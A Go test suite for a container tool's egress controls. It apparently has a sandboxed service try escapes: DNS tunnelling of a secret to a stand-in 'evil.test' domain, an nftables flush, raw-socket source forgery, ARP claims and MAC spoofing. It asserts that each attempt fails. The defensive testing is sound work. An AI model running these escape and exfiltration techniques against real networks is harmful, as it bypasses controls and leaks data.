package security

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	goruntime "runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	mdns "github.com/miekg/dns"
	"github.com/vishvananda/netns"

	"nucleus/internal/testutil"
)

// world is a network namespace made by the test, standing in for the
// internet: linked to the host by a veth, with addresses from the
// 198.19.0.0/16 benchmark range (the network package's tests use
// 198.18.0.0/16). It records every UDP datagram on port 9999, every TCP
// connection on ports 80 and 81, and every raw DNS query its resolver on
// port 53 receives — the suite's evidence of what got out.
type world struct {
	host, addr, addr2 string // host end, the namespace's two addresses
	mu                sync.Mutex
	udp               []string // payloads received on :9999
	tcp               []string // "PORT from ADDR"
	dns               [][]byte // raw queries
}

func (w *world) log(list *[]string, s string) { w.mu.Lock(); *list = append(*list, s); w.mu.Unlock() }

func (w *world) got() (udp, tcp []string, dns [][]byte) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string(nil), w.udp...), append([]string(nil), w.tcp...), append([][]byte(nil), w.dns...)
}

// inNetns runs fn on a thread switched into the namespace pinned at path;
// sockets fn opens stay in that namespace.
func inNetns(path string, fn func() error) error {
	errc := make(chan error, 1)
	go func() {
		goruntime.LockOSThread()
		self, err := netns.Get()
		if err != nil {
			errc <- err
			return
		}
		defer self.Close()
		target, err := netns.GetFromPath(path)
		if err != nil {
			errc <- err
			return
		}
		defer target.Close()
		if err := netns.Set(target); err != nil {
			errc <- err
			return
		}
		err = fn()
		if netns.Set(self) == nil {
			goruntime.UnlockOSThread() // else the thread dies with the goroutine
		}
		errc <- err
	}()
	return <-errc
}

func newWorld(t *testing.T) *world {
	t.Helper()
	path := testutil.NewNetns(t)
	o := testutil.LinkOutside(t, path, 19, "nsec")
	w := &world{host: o.HostAddr, addr: o.Addrs[0], addr2: o.Addrs[1]}
	var closers []io.Closer
	t.Cleanup(func() {
		for _, c := range closers {
			c.Close()
		}
	})
	err := inNetns(path, func() error {
		pc, err := net.ListenPacket("udp4", ":9999")
		if err != nil {
			return err
		}
		closers = append(closers, pc)
		go func() {
			buf := make([]byte, 2048)
			for {
				n, _, err := pc.ReadFrom(buf)
				if err != nil {
					return
				}
				w.log(&w.udp, string(buf[:n]))
			}
		}()
		for _, port := range []string{"80", "81"} {
			l, err := net.Listen("tcp4", ":"+port)
			if err != nil {
				return err
			}
			closers = append(closers, l)
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					w.log(&w.tcp, port+" from "+c.RemoteAddr().String())
					c.Close()
				}
			}()
		}
		// The upstream resolver: answers allowed.test. with addr2, and
		// records every query as received.
		h := mdns.HandlerFunc(func(rw mdns.ResponseWriter, r *mdns.Msg) {
			m := new(mdns.Msg)
			m.SetReply(r)
			if len(r.Question) > 0 && strings.EqualFold(r.Question[0].Name, "allowed.test.") && r.Question[0].Qtype == mdns.TypeA {
				m.Answer = append(m.Answer, &mdns.A{Hdr: mdns.RR_Header{Name: r.Question[0].Name, Rrtype: mdns.TypeA, Class: mdns.ClassINET, Ttl: 60}, A: net.ParseIP(w.addr2)})
			} else {
				m.Rcode = mdns.RcodeNameError
			}
			_ = rw.WriteMsg(m)
		})
		dpc, err := net.ListenPacket("udp4", ":53")
		if err != nil {
			return err
		}
		dl, err := net.Listen("tcp4", ":53")
		if err != nil {
			dpc.Close()
			return err
		}
		for _, s := range []*mdns.Server{
			{PacketConn: recordingPacketConn{dpc, w}, Handler: h},
			{Listener: recordingListener{dl, w}, Handler: h},
		} {
			go s.ActivateAndServe()
			closers = append(closers, shutdowner{s})
		}
		return nil
	})
	if err != nil {
		t.Fatalf("set up the outside namespace: %v", err)
	}
	return w
}

type shutdowner struct{ s *mdns.Server }

func (s shutdowner) Close() error { return s.s.Shutdown() }

type recordingPacketConn struct {
	net.PacketConn
	w *world
}

func (c recordingPacketConn) ReadFrom(b []byte) (int, net.Addr, error) {
	n, a, err := c.PacketConn.ReadFrom(b)
	if n > 0 {
		c.w.mu.Lock()
		c.w.dns = append(c.w.dns, bytes.Clone(b[:n]))
		c.w.mu.Unlock()
	}
	return n, a, err
}

type recordingListener struct {
	net.Listener
	w *world
}

func (l recordingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err != nil {
		return nil, err
	}
	return recordingConn{c, l.w}, nil
}

type recordingConn struct {
	net.Conn
	w *world
}

func (c recordingConn) Read(b []byte) (int, error) {
	n, err := c.Conn.Read(b)
	if n > 0 {
		c.w.mu.Lock()
		c.w.dns = append(c.w.dns, bytes.Clone(b[:n]))
		c.w.mu.Unlock()
	}
	return n, err
}

const egressYAML = `name: PROJECT
networks:
  n: {nat: kernel, dns: [WORLD]}
services:
  app:
    command: ["/bin/busybox", "sleep", "600"]
    networks: [n]
    cap_add: [NET_ADMIN, NET_RAW]
    egress: {allow: ["WORLD:80/tcp", "allowed.test"]}
    volumes: ["PROBE:/probe:ro"]
    stop_grace_period: 1s
  ctl:
    command: ["/bin/busybox", "sleep", "600"]
    networks: [n]
    cap_add: [NET_ADMIN, NET_RAW]
    volumes: ["PROBE:/probe:ro"]
    stop_grace_period: 1s
`

// project is a project directory brought up with `nucleus up -d`; it is
// taken down when the test ends.
type project struct {
	e    *env
	file string
}

func (e *env) up(yaml string) *project {
	e.t.Helper()
	dir := e.t.TempDir()
	p := &project{e: e, file: filepath.Join(dir, "nucleus.yaml")}
	if err := os.WriteFile(p.file, []byte(yaml), 0o644); err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() {
		if r := e.nucleus(nil, "-f", p.file, "down", "-t", "1s"); r.code != 0 {
			e.t.Errorf("nucleus down: exit %d: %s%s", r.code, r.out, r.err)
		}
	})
	if r := e.nucleus(nil, "-f", p.file, "up", "--wait", "--wait-timeout", "60s"); r.code != 0 {
		ps := e.nucleus(nil, "-f", p.file, "ps")
		logs := e.nucleus(nil, "-f", p.file, "logs", "--tail", "20")
		e.t.Fatalf("nucleus up: exit %d: %s%s\nps:\n%s%s\nlogs:\n%s%s", r.code, r.out, r.err, ps.out, ps.err, logs.out, logs.err)
	}
	return p
}

// probe runs the probe in a running service with `nucleus exec`.
func (p *project) probe(service string, attempts ...string) map[string]string {
	p.e.t.Helper()
	args := append([]string{"-f", p.file, "exec", "-T", service, "--", probePath}, attempts...)
	r := p.e.nucleus(func(c *exec.Cmd) { c.Stdin = nil }, args...)
	if r.code != 0 {
		p.e.t.Fatalf("nucleus exec %s: exit %d: %s%s", service, r.code, r.out, r.err)
	}
	return decode(p.e.t, r.out)
}

type ifInfo struct{ ip, cidr, mac, gw string }

func (p *project) info(service string) ifInfo {
	p.e.t.Helper()
	f := strings.Fields(p.probe(service, "info,eth0")["info"])
	if len(f) != 3 {
		p.e.t.Fatalf("%s: no eth0: %v", service, f)
	}
	ip, _, _ := strings.Cut(f[0], "/")
	return ifInfo{ip: ip, cidr: f[0], mac: f[1], gw: f[2]}
}

// TestNetworkEscapes: a service with egress rules and CAP_NET_ADMIN +
// CAP_NET_RAW (cap_add) on a kernel network tries every way around the
// rules the review tried; a peer without rules (ctl) shows that the same
// packets do get out when nothing stops them. Traffic goes only to the
// test's own namespace (world) and the project's gateway.
func TestNetworkEscapes(t *testing.T) {
	e := newEnv(t)
	w := newWorld(t)
	project := "sec" + testutil.RandHex(3)
	yaml := strings.NewReplacer("PROJECT", project, "WORLD", w.addr, "PROBE", probeDir).Replace(egressYAML)
	p := e.up(yaml)
	app, ctl := p.info("app"), p.info("ctl")
	t.Logf("app %+v, ctl %+v, world %s", app, ctl, w.addr)
	tables := func() string { // this project's tables (other tests' come and go)
		out, _ := exec.Command("nft", "list", "tables").CombinedOutput()
		var mine []string
		for _, l := range strings.Split(string(out), "\n") {
			if strings.HasSuffix(l, "_"+project) {
				mine = append(mine, l)
			}
		}
		return strings.Join(mine, "\n")
	}
	tablesBefore := tables()
	if strings.Count(tablesBefore, "\n") != 1 {
		t.Fatalf("no nftables table of project %s: %s", project, tablesBefore)
	}
	dst := w.addr + ":9999"
	subnetHost := func(n int) string { // another address in the network
		i := strings.LastIndex(app.ip, ".")
		return fmt.Sprintf("%s.%d", app.ip[:i], n)
	}
	secret := "s3cr" + testutil.RandHex(6)

	// Controls: the peer without rules gets out by every path used below.
	c := p.probe("ctl",
		"ctl_udp=udp,"+dst+",MARK-ctl-udp",
		"ctl_tcp81=tcp,"+w.addr+":81",
		"ctl_raw=raw_udp,"+ctl.ip+","+w.addr+",9999,MARK-ctl-raw",
		"ctl_packet=packet_udp,eth0,"+ctl.mac+","+ctl.ip+","+w.addr+",9999,MARK-ctl-packet",
		"ctl_gw_mac=arp_entry,"+ctl.gw)
	check(t, c, []attempt{
		{"ctl_udp", "", []string{"ok"}}, {"ctl_tcp81", "", []string{"ok"}},
		{"ctl_raw", "", []string{"ok"}}, {"ctl_packet", "", []string{"ok"}},
	})
	ctlGwMAC := c["ctl_gw_mac"]

	as := []attempt{
		// Allowed traffic works (else every refusal below proves nothing).
		{"allowed_tcp80", "tcp," + w.addr + ":80", []string{"ok"}},
		// Plain attempts.
		{"udp", "udp," + dst + ",MARK-app-udp", []string{"EHOSTUNREACH", "ECONNREFUSED", "ok"}},
		{"tcp81", "tcp," + w.addr + ":81", []string{"ECONNREFUSED", "EHOSTUNREACH", "i/o timeout"}},
		{"host_via_gateway", "tcp," + app.gw + ":22", []string{"ECONNREFUSED", "EHOSTUNREACH"}},
		// Remove the sandbox's own firewall: the rules are not there.
		{"nft_flush", "exec,/usr/sbin/nft,flush,ruleset", []string{"ok"}},
		{"udp_after_flush", "udp," + dst + ",MARK-app-flush", []string{"EHOSTUNREACH", "ECONNREFUSED", "ok"}},
		{"tcp81_after_flush", "tcp," + w.addr + ":81", []string{"ECONNREFUSED", "EHOSTUNREACH", "i/o timeout"}},
		// DNS tunnelling: names that are not allowed never reach the upstream.
		{"dns_allowed", "dns," + app.gw + ",allowed.test", []string{"NOERROR " + w.addr2}},
		{"dns_allowed_tcp", "dns," + app.gw + ",allowed.test,tcp", []string{"NOERROR " + w.addr2}},
		{"learnt_address", "tcp," + w.addr2 + ":81", []string{"ok"}},
		{"dns_secret", "dns," + app.gw + "," + secret + ".evil.test", []string{"REFUSED"}},
		{"dns_secret_tcp", "dns," + app.gw + "," + secret + ".evil.test,tcp", []string{"REFUSED"}},
		{"dns_secret_txt", "dns_txt," + app.gw + "," + secret + ".evil.test", []string{"REFUSED"}},
		{"dns_secret_subdomain", "dns," + app.gw + "," + secret + ".allowed.test", []string{"REFUSED"}},
		{"dns_secret_suffix", "dns," + app.gw + ",allowed.test." + secret + ".evil", []string{"REFUSED"}},
		{"dns_two_questions", "dns_2q," + app.gw + ",allowed.test," + secret + ".evil.test", []string{"REFUSED", "FORMERR", "NOERROR " + w.addr2, "NOERROR"}},
		{"dns_smuggled_sections", "dns_smuggle," + app.gw + ",allowed.test," + secret, []string{"REFUSED", "FORMERR", "NOERROR " + w.addr2, "NOERROR"}},
		{"dns_direct_upstream", "dns," + w.addr + "," + secret + ".direct.test", []string{"EHOSTUNREACH", "ECONNREFUSED", "i/o timeout"}},
		{"dns_direct_upstream_tcp", "dns," + w.addr + "," + secret + ".direct.test,tcp", []string{"EHOSTUNREACH", "ECONNREFUSED", "i/o timeout"}},
		// Forged sources through raw and packet sockets (CAP_NET_RAW):
		// the unrestricted peer's address, the gateway's, one outside.
		{"raw_as_peer", "raw_udp," + ctl.ip + "," + w.addr + ",9999,MARK-app-raw-peer", []string{"ok"}},
		{"raw_as_gateway", "raw_udp," + app.gw + "," + w.addr + ",9999,MARK-app-raw-gw", []string{"ok"}},
		{"raw_as_outsider", "raw_udp,203.0.113.9," + w.addr + ",9999,MARK-app-raw-outsider", []string{"ok"}},
		{"packet_as_peer", "packet_udp,eth0," + ctl.mac + "," + ctl.ip + "," + w.addr + ",9999,MARK-app-packet-peer", []string{"ok"}},
		{"packet_own_mac_peer_ip", "packet_udp,eth0," + app.mac + "," + ctl.ip + "," + w.addr + ",9999,MARK-app-packet-peerip", []string{"ok"}},
		// Extra addresses (CAP_NET_ADMIN).
		{"add_free_address", "addr_add,eth0," + subnetHost(200) + "/24", []string{"ok"}},
		{"udp_from_free_address", "udp," + dst + ",MARK-app-extra," + subnetHost(200), []string{"EHOSTUNREACH", "ECONNREFUSED", "ok"}},
		{"tcp_from_free_address", "tcp," + w.addr + ":81," + subnetHost(200), []string{"ECONNREFUSED", "EHOSTUNREACH", "i/o timeout"}},
		{"add_peer_address", "addr_add,eth0," + ctl.ip + "/32", []string{"ok"}},
		{"udp_from_peer_address", "udp," + dst + ",MARK-app-peeraddr," + ctl.ip, []string{"EHOSTUNREACH", "ECONNREFUSED", "ok"}},
		// ARP claims: the peer's and the gateway's addresses are ours.
		{"arp_claim_peer", "arp_claim,eth0," + ctl.ip, []string{"ok"}},
		{"arp_claim_gateway", "arp_claim,eth0," + app.gw, []string{"ok"}},
		{"tcp_as_peer_after_arp", "tcp," + w.addr + ":81," + ctl.ip, []string{"ECONNREFUSED", "EHOSTUNREACH", "i/o timeout"}},
		// Become the peer: its MAC too.
		{"set_peer_mac", "set_mac,eth0," + ctl.mac, []string{"ok"}},
		{"udp_as_peer_mac", "udp," + dst + ",MARK-app-peermac," + ctl.ip, []string{"EHOSTUNREACH", "ECONNREFUSED", "ok"}},
		{"tcp_as_peer_mac", "tcp," + w.addr + ":81," + ctl.ip, []string{"ECONNREFUSED", "EHOSTUNREACH", "i/o timeout"}},
		{"set_random_mac", "set_mac,eth0,02:5e:c0:" + testutil.RandHex(1) + ":" + testutil.RandHex(1) + ":" + testutil.RandHex(1), []string{"ok"}},
		{"udp_random_mac", "udp," + dst + ",MARK-app-randmac", []string{"EHOSTUNREACH", "ECONNREFUSED", "ok"}},
	}
	got := p.probe("app", args(as)...)
	t.Logf("app: %v", got)
	// net.Dialer errors are not errnos: keep the tail ("i/o timeout").
	for k, v := range got {
		if strings.HasSuffix(v, "i/o timeout") {
			got[k] = "i/o timeout"
		}
	}
	time.Sleep(300 * time.Millisecond) // datagrams in flight
	udp, tcp, dns := w.got()
	t.Logf("world received: udp %q, tcp %q, %d DNS queries", udp, tcp, len(dns))
	after := p.probe("ctl", "ctl_gw_mac=arp_entry,"+ctl.gw, "ctl_after=udp,"+dst+",MARK-ctl-after2", "ctl_tcp_after=tcp,"+w.addr+":81")

	t.Run("attempts", func(t *testing.T) { check(t, got, as) })
	t.Run("egress_and_anti_spoofing", func(t *testing.T) {
		for _, want := range []string{"MARK-ctl-udp", "MARK-ctl-raw", "MARK-ctl-packet"} {
			if !slices.Contains(udp, want) {
				t.Errorf("control datagram %s did not arrive: the path out is broken, the test proves nothing", want)
			}
		}
		for _, m := range udp {
			if strings.HasPrefix(m, "MARK-app-") {
				t.Errorf("ESCAPE: datagram %q from the restricted service reached the outside", m)
			}
		}
		n81 := 0
		for _, c := range tcp {
			if strings.HasPrefix(c, "81 ") {
				n81++
			}
		}
		// ctl connected once to :81 before the attack, app once to the
		// learnt address (addr2, allowed); every other one is an escape.
		if n81 != 2 {
			t.Errorf("connections to port 81: %q, want exactly 2 (ctl once, app once through the learnt address)", tcp)
		}
	})
	t.Run("peer_not_impersonated", func(t *testing.T) {
		// The host and the peer still know the right MACs, and the peer
		// still gets out.
		if after["ctl_gw_mac"] != ctlGwMAC || after["ctl_after"] != "ok" || after["ctl_tcp_after"] != "ok" {
			t.Errorf("the peer after the attack: %v (gateway MAC before: %s)", after, ctlGwMAC)
		}
		if out, _ := exec.Command("ip", "neigh", "show", ctl.ip).CombinedOutput(); strings.Contains(strings.ToLower(string(out)), app.mac) {
			t.Errorf("the host's neighbour entry for the peer %s points to the attacker: %s", ctl.ip, out)
		}
	})
	t.Run("host_rules_untouched", func(t *testing.T) {
		if tablesAfter := tables(); tablesAfter != tablesBefore {
			t.Errorf("the project's nftables tables changed:\nbefore:\n%s\nafter:\n%s", tablesBefore, tablesAfter)
		}
	})
	t.Run("dns_policy", func(t *testing.T) {
		sawAllowed := false
		for _, q := range dns {
			if bytes.Contains(bytes.ToLower(q), []byte(secret)) {
				t.Errorf("ESCAPE: a query carrying the secret reached the upstream resolver (DNS tunnelling): %q", q)
			}
			if bytes.Contains(q, []byte("allowed")) {
				sawAllowed = true
			}
		}
		if !sawAllowed {
			t.Error("the upstream never saw allowed.test: forwarding is broken, the test proves nothing")
		}
	})
}
